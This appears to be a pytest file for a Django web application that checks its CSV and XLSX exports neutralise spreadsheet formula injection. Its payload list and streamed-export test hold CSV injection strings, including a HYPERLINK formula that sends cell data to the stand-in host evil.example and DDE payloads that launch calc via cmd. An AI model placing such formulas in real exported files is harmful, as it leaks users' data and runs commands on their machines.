"""Formula injection (issue 10 §4): no exported CSV or XLSX cell is ever a formula, through every
export the pages offer, and an export imports back unchanged."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from smenet.common import exports

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SOURCE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_are_escaped_and_numbers_are_not(payload):
    assert exports.csv_cell(payload) == "'" + payload
    assert exports.unescape(exports.csv_cell(payload)) == payload
    for number in ("-5", "+3", "-0.25", "1e5"):
        assert exports.csv_cell(number) == number


def _csv_cells(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]


def _check_csv(content: bytes) -> list[str]:
    cells = _csv_cells(content)
    bad = [c for c in cells if c.startswith(exports.TRIGGERS) and exports.is_dangerous(c)]
    assert not bad, bad
    return cells


def _check_xlsx(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.mark.django_db
class TestEveryExport:
    @pytest.fixture
    def plan(self, secretariat_user):
        from smenet.plans import services
        from smenet.plans.tests.factories import plan_with_items
        from smenet.registry.tests.factories import InstitutionFactory

        plan, version, actions = plan_with_items(leads=[InstitutionFactory(acronym="AAA")])
        for action, payload in zip(actions, PAYLOADS, strict=False):
            services.item_update(
                actor=None,
                item=action,
                expected_version=action.version,
                titles={"en": payload.replace("\t", " ").replace("\r", " ")},
                funding_source=payload[:200].strip(),
            )
        return plan, version

    def test_plan_csv_and_xlsx_exports(self, client, secretariat_user, plan):
        plan, version = plan
        client.force_login(secretariat_user)
        response = client.get(f"/plan/{plan.code}/export.csv?v={version.number}")
        assert response["Content-Disposition"].startswith("attachment;")
        cells = _check_csv(response.content)
        assert "'" + PAYLOADS[0] in cells
        texts = _check_xlsx(client.get(f"/plan/{plan.code}/export.xlsx?v={version.number}").content)
        assert PAYLOADS[0] in texts  # kept exactly, as text

    def test_general_assembly_report_xlsx(
        self, client, secretariat_user, plan, django_capture_on_commit_callbacks
    ):
        plan, version = plan
        client.force_login(secretariat_user)
        url = f"/plan/{plan.code}/report.xlsx?v={version.number}"
        with django_capture_on_commit_callbacks(execute=True):
            assert client.get(url).status_code == 202  # made by the worker (a job)
        response = client.get(url)
        assert response.status_code == 200
        assert PAYLOADS[0] in _check_xlsx(b"".join(response.streaming_content))

    def test_capacity_activity_exports(self, client, secretariat_user):
        from smenet.capacity import services
        from smenet.capacity.tests.factories import ActivityTypeFactory, SubjectFactory
        from smenet.registry.tests.factories import InstitutionFactory

        services.activity_create(
            actor=secretariat_user,
            type=ActivityTypeFactory(),
            subject=SubjectFactory(code="access-to-finance"),
            titles={"en": PAYLOADS[1]},
            providers=[InstitutionFactory()],
            beneficiaries=[InstitutionFactory()],
        )
        client.force_login(secretariat_user)
        for fmt, check in (("csv", _check_csv), ("xlsx", _check_xlsx)):
            response = client.get("/capacity/reports/export/", {"format": fmt})
            assert response.status_code == 200 and response["X-Content-Type-Options"] == "nosniff"
            assert any(PAYLOADS[1] in c for c in check(response.content))

    def test_an_escaped_export_imports_back_unchanged(self, plan):
        from smenet.plans import exports as plan_exports
        from smenet.plans import imports
        from smenet.plans.tests.factories import task_force_user

        _plan, version = plan
        before = {
            i.key: i.safe_translation_getter("title", language_code="en")
            for i in version.items.all()
        }
        summary = imports.plan_import(
            actor=task_force_user(),
            version=version,
            name="p.csv",
            content=plan_exports.plan_csv(version),
        )
        assert summary.updated == 0 and summary.created == 0
        after = {
            i.key: i.safe_translation_getter("title", language_code="en")
            for i in version.items.all()
        }
        assert after == before


#: Writers that predate the helper, in apps whose owners adopt it next (issue 10 §4): the list
#: may only shrink.
PENDING: set[str] = set()


def test_no_module_writes_csv_or_xlsx_but_the_export_helper():
    """Every CSV/XLSX writer goes through common.exports (tests aside)."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(\)")
    helper = SOURCE / "common" / "exports.py"
    offenders = {
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if "tests" not in path.parts
        and path != helper
        and writers.search(path.read_text(encoding="utf-8"))
    }
    assert offenders <= PENDING, sorted(offenders - PENDING)
    assert offenders == PENDING, f"adopted, remove from PENDING: {sorted(PENDING - offenders)}"


def test_streamed_csv_and_xlsx_rows_follow_the_same_rule():
    from openpyxl import Workbook

    rows = [['=HYPERLINK("http://evil/")', "-5", "+cmd|' /C calc'!A0", 3.5, None]]
    text = "".join(exports.csv_stream(["a", "b", "c", "d", "e"], rows, chunk=1))
    read = list(csv.reader(io.StringIO(text)))
    assert read[1] == ['\'=HYPERLINK("http://evil/")', "-5", "'+cmd|' /C calc'!A0", "3.5", ""]
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(exports.xlsx_stream_row(sheet, rows[0]))
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue()))["x"].iter_rows())[0]
    assert [c.value for c in cells[:4]] == [*rows[0][:3], 3.5]
    assert [c.data_type for c in cells[:3]] == ["s", "s", "s"]
    assert cells[0].quotePrefix and cells[2].quotePrefix
